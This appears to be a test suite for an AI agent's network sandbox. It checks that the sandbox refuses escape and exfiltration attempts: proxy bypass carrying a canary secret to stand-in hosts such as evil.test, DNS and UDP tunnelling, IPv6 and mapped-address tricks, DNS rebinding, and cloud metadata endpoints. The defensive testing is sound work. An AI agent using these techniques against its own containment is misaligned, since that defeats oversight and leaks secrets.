import { beforeAll, describe, expect, test } from 'vitest';

import { connect, direct, get, proxied, tcp } from './support/bottle/attempts.ts';
import type { Attempt } from './support/bottle/escape-case.ts';
import { ESCAPE_BACKENDS } from './support/bottle/escape-backends.ts';
import { escapeStage } from './support/bottle/escape-stage.ts';
import type { Escape } from './support/bottle/escape.ts';
import {
  ALLOWED,
  FORBIDDEN,
  FORBIDDEN_PORTS,
  FORBIDDEN_V6,
  LOOPBACK_PORT,
  METADATA,
  PUBLIC_RESOLVER,
} from './support/bottle/internet.ts';

/**
 * The checks E1 to E3, E5, E12 and E13 that an agent's sandbox must pass, from within a bottle, as its user and as its root. Every attempt must be refused
 * promptly and visibly, be in the audit by a rule and without the secret, and bring nothing to a listener that counts; and what is allowed must
 * work in the same bottle. Its groups are [backend:native] and [backend:docker].
 */
describe.each(ESCAPE_BACKENDS)('[backend:%s] a bottle keeps in', (backend, usable) => {
  describe.skipIf(!usable)('what is not allowed', () => {
    const stage = escapeStage(backend);
    const { canary } = stage;
    let escape: Escape;
    beforeAll(async () => {
      escape = await stage.open('escape');
    });

    test('what the attempts are made of reaches what is allowed', async () => {
      const send = get('allowed.test');
      await escape.works([
        connect('allowed.test:443', { name: 'allowed.test', send }),
        connect('allowed.test:80', { plain: true, send }),
        { do: 'proxy', send: send.replace('/', 'http://allowed.test/') },
        tcp(ALLOWED, 80),
        { do: 'tls', address: ALLOWED, port: 443, name: 'allowed.test', trust: true, send },
        proxied('http://allowed.test/'),
        direct('https://allowed.test/'),
      ]);
      const asks: Attempt[] = [
        { do: 'dns', name: 'allowed.test', server: PUBLIC_RESOLVER },
        { do: 'dns', name: 'allowed.test', server: PUBLIC_RESOLVER, stream: true },
        { do: 'dns', name: 'allowed.test', kind: 'AAAA' },
        { do: 'resolve', name: 'allowed.test' },
        { do: 'leaf', address: ALLOWED, port: 443, name: 'allowed.test' },
        { do: 'read', path: '/etc/passwd' },
      ];
      const one = { rcode: 0, answers: 1 };
      expect(await escape.attack(asks)).toMatchObject([
        ...[one, one, one],
        { addresses: expect.arrayContaining([ALLOWED]) },
        { names: [['DNS', 'allowed.test']] },
        { received: expect.stringContaining('root:') },
      ]);
    });

    test('E1: clients that pass the proxy by', async () => {
      const secret = `https://${FORBIDDEN}/?${canary}`;
      await escape.refuses(
        [
          direct(secret),
          direct(`http://${FORBIDDEN}/?${canary}`),
          direct('https://evil.test/'),
          direct(`http://[${FORBIDDEN_V6}]/`),
        ],
        ['unknown-address', 'no-route', 'no-server-name'],
      );
      await escape.refuses(
        [
          tcp(FORBIDDEN, 80),
          tcp(FORBIDDEN_V6, 80),
          {
            do: 'tls',
            address: FORBIDDEN,
            port: 443,
            name: 'allowed.test',
            trust: false,
            send: get('allowed.test', `X: ${canary}`),
          },
          { do: 'tls', address: ALLOWED, port: 443, name: 'evil.test', trust: false, send: get('evil.test') },
        ],
        ['unknown-address', 'no-route'],
      );
      await escape.works([direct('https://allowed.test/'), direct('http://allowed.test/')]);
    });

    test('E2: other ports of an allowed host', async () => {
      await escape.refuses(
        [22, 25, 853, 5432, 6667, 8443, 31_337].map((port) => tcp(ALLOWED, port, canary)),
        [],
        ['closed-port'],
      );
      await escape.refuses(
        [22, 25, 8443].map((port) => connect(`allowed.test:${port}`)),
        ['no-route'],
      );
    });

    test('E3: UDP, and DNS in its other clothes', async () => {
      await escape.refuses(
        [
          ...[443, 123, 853, 5353, 33_434].flatMap((port) => [
            { do: 'udp', address: FORBIDDEN, port, send: canary },
            { do: 'udp', address: ALLOWED, port, send: canary },
          ]),
          { do: 'udp', address: PUBLIC_RESOLVER, port: 784, send: canary },
          tcp(PUBLIC_RESOLVER, 853, canary),
        ],
        [],
        ['closed-port'],
      );
      await escape.refuses(
        [
          { do: 'dns', name: 'evil.test', server: PUBLIC_RESOLVER },
          { do: 'dns', name: 'evil.test', server: PUBLIC_RESOLVER, stream: true },
          { do: 'dns', name: 'evil.test', server: FORBIDDEN_V6 },
          { do: 'dns', name: 'evil.test', kind: 'AAAA' },
          { do: 'resolve', name: 'evil.test' },
          proxied(`https://${PUBLIC_RESOLVER}/dns-query?name=${canary}`),
          direct(`https://${PUBLIC_RESOLVER}/dns-query?name=${canary}`),
          proxied(`https://dns.evil.test/dns-query?name=${canary}`),
          direct(`https://dns.evil.test/dns-query?name=${canary}`),
          tcp(PUBLIC_RESOLVER, 443, canary),
          tcp(FORBIDDEN, 80, canary),
          tcp(FORBIDDEN, 443, ''),
          tcp(FORBIDDEN, 443, '\x16\x03\x01\x02\x00\x01'),
          tcp(FORBIDDEN, 80, 'GET / HTTP/1.1\r\nHost: allowed.test\r\n'),
        ],
        ['no-route', 'unknown-address', 'no-server-name', 'bad-request', 'plain-http'],
      );
      // Whoever does not finish the question is cut off within a second; a busy machine may be late at times.
      const unfinished = [
        tcp(FORBIDDEN, 443, ''),
        tcp(FORBIDDEN, 443, '\x16\x03\x01\x02\x00\x01'),
        tcp(FORBIDDEN, 80, 'GET / HTTP/1.1\r\nHost: allowed.test\r\n'),
      ];
      const latest = async () => Math.max(...(await escape.attack(unfinished)).map(({ ms }) => ms));
      await expect.poll(latest, { timeout: 60_000 }).toBeLessThan(1000);
      await escape.asked(/evil|public/, 0);
    });

    test('E5: IPv6 is judged as IPv4', async () => {
      const literals = [
        '[::1]',
        '[::]',
        '[fe80::1]',
        '[::ffff:127.0.0.1]',
        '[::ffff:7f00:1]',
        '[64:ff9b::7f00:1]',
        '[2002:7f00:1::]',
        '[fd12::1]',
        '[ff02::1]',
        '[::ffff:169.254.169.254]',
      ];
      await escape.refuses(
        literals.map((literal) => connect(`${literal}:443`)),
        ['special-address', 'private-address', 'metadata', 'no-route'],
      );
      await escape.refuses(
        [connect('[fe80::1%25lo]:443'), connect('[::1%lo]:443'), connect('::1:443')],
        ['bad-host', 'bad-authority'],
      );
      await escape.refuses(
        ['ula.test', 'mapped.test', 'nat64.test', 'mixed6.test'].map((name) => connect(`${name}:443`)),
        ['private-address', 'special-address'],
      );
      await escape.refuses(
        [FORBIDDEN_V6, 'fd12::1', '64:ff9b::7f00:1'].map((address) => tcp(address, 80)),
        ['unknown-address', 'special-address', 'private-address'],
      );
      await escape.refuses(
        [
          { do: 'scoped', address: 'fe80::1', port: 80, send: get('allowed.test') },
          tcp('::ffff:127.0.0.1', 80),
          tcp('0.0.0.0', 80),
          tcp('::', 80),
        ],
        ['special-address'],
      );
      await escape.refuses(
        [tcp(FORBIDDEN_V6, 22), tcp('::1', LOOPBACK_PORT), { do: 'udp', address: FORBIDDEN_V6, port: 443 }],
        [],
        ['closed-port'],
      );
      await escape.works([direct('https://six.wild.test/'), proxied('https://six.wild.test/')]);
    });

    test('E12: names that change their minds', async () => {
      await escape.refuses(
        ['loopback.test', 'mixed.test', 'mixed6.test', 'chain.test', 'private.test'].map((name) =>
          connect(`${name}:443`),
        ),
        ['special-address', 'private-address'],
      );
      await escape.refuses(
        [{ do: 'dns', name: 'loopback.test' }, { do: 'dns', name: 'mixed.test' }, direct('https://mixed.test/')],
        ['special-address'],
      );
      // Pinned: the second answer would be the loopback address, and nobody asks for it.
      for (const name of ['rebind-1.wild.test', 'rebind-2.wild.test']) {
        const [again, caught] = [proxied(`https://${name}/`), direct(`https://${name}/`)];
        await escape.works([again, again, caught]);
        expect((await stage.world.sightings()).names.filter((asked) => asked === name)).toHaveLength(2);
      }
      await escape.nothingCameOut();
    });

    test('E13: metadata services', async () => {
      await escape.refuses(
        METADATA.map((address) => connect(`${address.includes(':') ? `[${address}]` : address}:80`)),
        ['metadata'],
      );
      await escape.refuses(
        METADATA.map((address) => tcp(address, 80, get('169.254.169.254'))),
        ['metadata'],
      );
      await escape.refuses(
        METADATA.map((address) => tcp(address, 80, get('allowed.test', `X: ${canary}`))),
        ['metadata'],
      );
      await escape.refuses(
        [
          proxied('http://169.254.169.254/latest/'),
          proxied('http://metadata.google.internal/'),
          connect('meta.test:80'),
          connect('meta6.test:443'),
          direct('http://metadata.google.internal/'),
        ],
        ['metadata'],
      );
    });

    test('in all of this nothing reached a listener that counts', async () => {
      await escape.nothingCameOut();
      const { forbidden } = await stage.world.sightings();
      expect(Object.keys(forbidden).length).toBeGreaterThan(FORBIDDEN_PORTS.length * 8);
    });
  });
});
